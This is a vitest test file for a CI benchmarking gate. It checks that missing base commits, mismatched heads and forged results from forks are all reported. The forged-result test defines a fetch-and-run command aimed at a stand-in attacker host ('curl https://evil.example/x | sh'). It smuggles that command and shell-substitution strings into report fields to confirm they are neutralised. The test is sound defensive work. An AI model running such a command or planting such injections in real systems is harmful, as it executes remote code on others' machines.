/** What is lost or forged between the jobs that measure and the one that publishes: nothing of it passes in silence. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import type { Report } from '../../src/handover/report.ts';
import { nameResult, type Result, renderResult } from '../../src/handover/result.ts';
import { runStep, type StepOptions } from '../e2e/step.ts';
import { pullRequestEvent } from '../e2e/workflow.ts';
import { GitHubServer } from '../github/server.ts';
import { pairedReportOf } from '../report/pair-fixture.ts';
import { commit, git, makeFolder, makeRepository } from '../revision/fixture.ts';

const HEAD = 'a'.repeat(40);
const TOKEN = 'ghs_0123456789abcdef';
const EVIL = 'curl https://evil.example/x | sh';

let server: GitHubServer;
let root: string;
let results: string;

beforeAll(async () => {
  server = await new GitHubServer('octo', 'shop').start();
  server.state.addToken(TOKEN);
  server.state.pulls.set(5, { headSha: HEAD });
});

afterAll(() => server?.stop());

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'tailgate-attacks-'));
  results = join(root, 'tailgate-results');
  mkdirSync(results);
  server.state.comments.length = 0;
  server.state.statuses.length = 0;
  return () => rmSync(root, { recursive: true });
});

type Step = Partial<Pick<StepOptions, 'event' | 'payload' | 'workspace'>> & {
  mode: string;
  inputs?: Record<string, string>;
  /** That of the run: GITHUB_SHA. */
  commit?: string;
};

/** Runs a step of the second attempt. A comment takes seconds, as it waits for those of other runs. */
async function act({ mode, event, payload, workspace, inputs, commit = HEAD }: Step) {
  const given = { mode, comment: 'never', 'github-token': TOKEN, store: join(root, 'store'), ...inputs };
  const own = { GITHUB_SHA: commit, GITHUB_RUN_ATTEMPT: '2', GITHUB_API_URL: server.url };
  const outcome = await runStep({
    ...{ parent: root, workspace: workspace ?? root, payload: payload ?? pullRequestEvent(HEAD) },
    ...{ ...(event && { event }), inputs: given, environment: own },
  });
  const { comments, statuses } = server.state;
  return { ...outcome, told: outcome.told + JSON.stringify([comments, statuses]) };
}

/** Hands over the report of a run whose head is faster or slower as `change` says. */
function hand(change: (report: Report) => void): void {
  const report = { ...pairedReportOf(), suite: 'default' };
  Object.assign(report.record, { commit: HEAD, dirty: false });
  change(report);
  const result: Result = {
    schemaVersion: 2,
    suite: 'default',
    job: { id: 'measure', name: '', index: 0, total: 1 },
    run: { id: '77', attempt: 2 },
    outcome: { kind: 'report', report, failOn: [] },
  };
  writeFileSync(join(results, nameResult(result)), renderResult(result));
}

const CONFIG = `when:
  changed: [server.js]
service:
  start: exec node server.js
  url: http://127.0.0.1:\${PORT}
scenarios:
  home:
    request: GET /
    slo: p90 < 1s at 10 req/s
`;

it('a base that cannot be had ends the run with exit code 3, though the head could be measured alone', async () => {
  const service = `require('node:http').createServer((_, response) => response.end('ok')).listen(process.env.PORT);`;
  const shop = makeRepository({ 'tailgate.yml': CONFIG, 'server.js': service });
  git(shop, 'switch', '-q', '-c', 'feature');
  const head = commit(shop, { 'server.js': `${service}// slow` });
  git(shop, 'switch', '-q', 'main');
  commit(shop, { 'other.js': '' });
  git(shop, 'merge', '-q', '--no-ff', '-m', 'test merge', 'feature');
  // As a test merge is checked out, with `fetch-depth: 1`.
  const workspace = join(makeFolder(), 'clone');
  git(shop, 'clone', '-q', '--depth=1', `file://${shop}`, workspace);
  git(workspace, 'remote', 'set-url', 'origin', 'http://127.0.0.1:1/shop');
  const { status, told } = await act({ mode: 'gate', payload: pullRequestEvent(head), workspace });
  expect(status, told).toBe(3);
  expect(told).toContain('No base to measure beside the head');
  expect(told).toContain('fetch-depth: 0');
});

/** The event after a run of a pull request's workflow. */
const completed = (head_sha: string, head_branch: string, owner: string) => ({
  action: 'completed',
  repository: { default_branch: 'main' },
  workflow_run: {
    id: 77,
    run_attempt: 2,
    event: 'pull_request',
    head_sha,
    head_branch,
    head_repository: { full_name: `${owner}/shop`, owner: { login: owner } },
    conclusion: 'success',
  },
});

it('one step after another workflow does not pass for a head that it has not checked out', async () => {
  // Nothing has to be measured for this.
  const workspace = makeRepository({ 'tailgate.yml': CONFIG, 'server.js': '' });
  const own = commit(workspace, { 'notes.md': '' });
  for (const head of [HEAD, own]) {
    server.state.pulls.set(9, { headSha: head, headBranch: 'own' });
    const payload = completed(head, 'own', 'octo');
    const outcome = await act({ mode: 'gate', event: 'workflow_run', payload, workspace, commit: own });
    const states = server.state.statuses.map(({ state }) => state);
    if (head === own) expect(outcome.status, outcome.told).toBe(0);
    else {
      expect([outcome.status, states.includes('success')], outcome.told).toEqual([3, false]);
      expect(outcome.told.replace(/\s+/g, ' ')).toContain(`The result is of commit ${own}, not of ${HEAD}.`);
    }
  }
  server.state.pulls.delete(9);
});

it('a forged result of a fork brings no command that people run, and no words into what later steps use', async () => {
  const payload = completed(HEAD, 'faster', 'stranger');
  server.state.pulls.set(8, { headSha: HEAD, headRepository: 'stranger/shop', headBranch: 'faster' });
  hand((report) => {
    const { verdict, record } = report;
    verdict.pair!.baseCommit = `main; ${EVIL}`;
    Object.assign(verdict.changes[0]!, { code: 'regressed', label: '$(evil)"\'`evil`' });
    Object.assign(verdict, { code: 'regressed', blocks: true });
    Object.assign(verdict.slos[0]!, { code: 'missed', blocks: true });
    const { label } = verdict.slos[0]!;
    for (const step of record.steps) if (step.label === label) step.scenario = `x; ${EVIL}`;
  });
  const inputs = { comment: 'always' };
  const { told, read } = await act({ mode: 'publish', event: 'workflow_run', payload, inputs });
  expect(server.state.comments[0]!.body).toContain('Look closer: `tailgate run`');
  expect(told).not.toContain('evil.example');
  expect(read('OUTPUT')).toContain('default: regressed, as the run of a fork reports');
  expect(read('OUTPUT')).not.toContain('evil');
});
